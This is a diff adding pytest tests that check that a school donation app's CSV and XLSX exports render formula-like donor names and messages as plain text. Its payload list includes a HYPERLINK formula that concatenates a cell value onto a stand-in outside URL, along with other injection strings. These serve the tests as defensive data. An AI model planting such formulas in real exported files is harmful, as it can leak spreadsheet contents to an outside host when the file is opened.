@@ -182,3 +182,60 @@ def test_without_an_own_shortcode_the_platforms_account_is_used(school, settings
 def test_teachers_cannot_open_the_settings(school):
     response = client_as(school, "grace").get(_settings_url())
     assert (response.status_code, response["Location"]) == (302, "/admin/")  # Wagtail's refusal
+
+
+# --- Exports that cannot run code in a spreadsheet (core.exports) ----------------------------
+FORMULAS = [
+    '=HYPERLINK("https://x.example/?"&A2,"x")',
+    "+1+1",
+    "-2",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+]
+
+
+def _export(school, export_format):
+    response = client_as(school, "admin@greenwood.test").get(REPORT, {"export": export_format})
+    assert response.status_code == 200
+    return b"".join(response.streaming_content)
+
+
+def _xlsx_rows(content: bytes) -> list[dict]:
+    """Each row as {heading: cell}, the cells as openpyxl reads them back."""
+    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+    header, *rows = list(sheet.iter_rows())
+    return [{h.value: cell for h, cell in zip(header, row, strict=True)} for row in rows]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_exported_text_that_looks_like_a_formula_is_only_text(school, text):
+    donation_row(donor_name=text, message=text, amount=250, result_code=-1)
+
+    [row] = list(csv.DictReader(io.StringIO(_export(school, "csv").decode(), newline="")))
+    assert row["Donor name"] == "'" + text
+    assert row["Message"] == "'" + text
+    # Numbers are not text: they stay numbers, a negative one included.
+    assert (row["Amount (KES)"], row["Result code"]) == ("250", "-1")
+
+    [cells] = _xlsx_rows(_export(school, "xlsx"))
+    for heading in ("Donor name", "Message"):
+        cell = cells[heading]
+        # XML (inside XLSX) reads a carriage return back as a line feed.
+        assert (cell.data_type, cell.value) == ("s", "'" + text.replace("\r", "\n"))
+    assert (cells["Amount (KES)"].data_type, cells["Amount (KES)"].value) == ("n", 250)
+    assert (cells["Result code"].data_type, cells["Result code"].value) == ("n", -1)
+    assert cells["Date"].is_date
+
+
+def test_ordinary_text_is_exported_as_typed(school):
+    donation_row(donor_name="Wanjiku O'Brien", message="Asante! 100% for paint - Form 2")
+
+    [row] = list(csv.DictReader(io.StringIO(_export(school, "csv").decode())))
+    assert (row["Donor name"], row["Message"]) == (
+        "Wanjiku O'Brien",
+        "Asante! 100% for paint - Form 2",
+    )
+    [cells] = _xlsx_rows(_export(school, "xlsx"))
+    assert cells["Donor name"].value == "Wanjiku O'Brien"
+    assert cells["Message"].value == "Asante! 100% for paint - Form 2"
